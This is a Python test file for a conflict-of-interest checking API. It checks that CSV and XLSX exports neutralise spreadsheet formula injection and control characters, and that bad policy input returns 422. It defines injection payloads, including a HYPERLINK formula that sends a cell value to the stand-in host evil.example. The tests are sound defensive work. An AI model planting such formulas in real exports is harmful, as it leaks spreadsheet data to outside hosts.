"""COI exports a spreadsheet opens safely, policy values checked before use, and no error left unanswered."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from api.main import create_app
from graph.stores.base import Store
from settings import Settings
from tests.queries.graphs import load_world

LIN = "person:林晓峰@org:青松大学附属第一医院"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
FORMULAS = (FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1")


@pytest.fixture
def client(store: Store, tmp_path: Path) -> Iterator[TestClient]:
    load_world(store)
    app = create_app(Settings(data_dir=tmp_path), store_factory=lambda _s: store)
    with TestClient(app) as c:
        yield c


def _check(client: TestClient, fmt: str, **body: Any) -> Any:
    return client.post("/coi/check", params={"format": fmt}, json=body)


def _body(text: str) -> dict[str, Any]:
    """A conflicted pair, and an applicant named and placed by ``text`` (not found: listed as unchecked)."""
    return {"experts": [{"name": "周雨桐"}], "applicants": [{"key": LIN}, {"name": text, "organization": text}]}


@pytest.mark.parametrize("text", FORMULAS)
def test_a_csv_cell_never_starts_a_formula(client: TestClient, text: str) -> None:
    response = _check(client, "csv", **_body(text))
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    assert any("周雨桐" in cell for cell in cells)  # the conflict is there
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert cells.count("'" + text) == 2  # the unchecked applicant's name and unit, as text


@pytest.mark.parametrize("unit", FORMULAS)
def test_an_xlsx_cell_is_text_never_a_formula(client: TestClient, unit: str) -> None:
    response = _check(client, "xlsx", **_body(unit))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type == "s" for cell in cells)
    values = {cell.value for cell in cells}
    assert unit in values or unit.replace("\r", "\n") in values  # some XML readers turn a lone CR into LF


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "json"])
def test_control_characters_in_names_do_not_break_an_export(client: TestClient, fmt: str) -> None:
    body = {"experts": [{"name": "周雨\x1f桐\x00"}, {"name": "周雨桐"}],
            "applicants": [{"key": LIN, "organization": "青松\x0b大学\x07附属第一医院"}, {"name": "无\x1b[31m名"}]}
    response = _check(client, fmt, **body)
    assert response.status_code == 200, response.text
    if fmt == "xlsx":
        book = load_workbook(io.BytesIO(response.content))
        text = "".join(str(c.value) for s in book.worksheets for row in s.iter_rows() for c in row if c.value)
        assert "青松大学附属第一医院" in text and not any(ch in text for ch in "\x00\x07\x0b\x1b\x1f")


@pytest.mark.parametrize("policy", [
    {"rules": {"coauthor": {"within_years": "3"}}},
    {"rules": {"coauthor": {"within_years": True}}},
    {"rules": {"coauthor": {"within_years": -1}}},
    {"rules": {"same_unit": {"severity": ["high"]}}},
    {"rules": {"same_unit": {"enabled": "yes"}}},
    {"rules": {"same_unit": {"relations": "WORKS_AT"}}},
    {"rules": {"indirect": {"degrees": "2"}}},
    {"rules": {"coauthor": "on"}},
    {"rules": ["coauthor"]},
    {"reference_year": "2024"},
    {"max_evidence": 0},
    {"declared": [{"expert": "周雨桐"}]},
], ids=lambda p: str(p))
def test_a_policy_value_of_the_wrong_kind_is_422_not_500(client: TestClient, policy: dict[str, Any]) -> None:
    response = client.post("/coi/check", json={**_body("青松大学附属第一医院"), "policy": policy})
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert response.json()["title"] == "Invalid policy"


def test_an_unexpected_error_is_a_500_problem_answered_on_the_connection(tmp_path: Path) -> None:
    class Broken:
        dialect = "falkordb"

        def ensure_schema(self) -> None:
            return None

        def read(self, *_: Any, **__: Any) -> Any:
            raise RuntimeError("a bug")

        def close(self) -> None:
            return None

    app = create_app(Settings(data_dir=tmp_path), store_factory=lambda _s: Broken())  # type: ignore[arg-type,return-value]
    with TestClient(app) as c:  # raises server exceptions: a 500 left to the server would raise here
        response = c.get("/stats")
        assert response.status_code == 500
        assert response.headers["content-type"] == "application/problem+json"
        assert c.get("/stats").json()["title"] == "Internal server error"
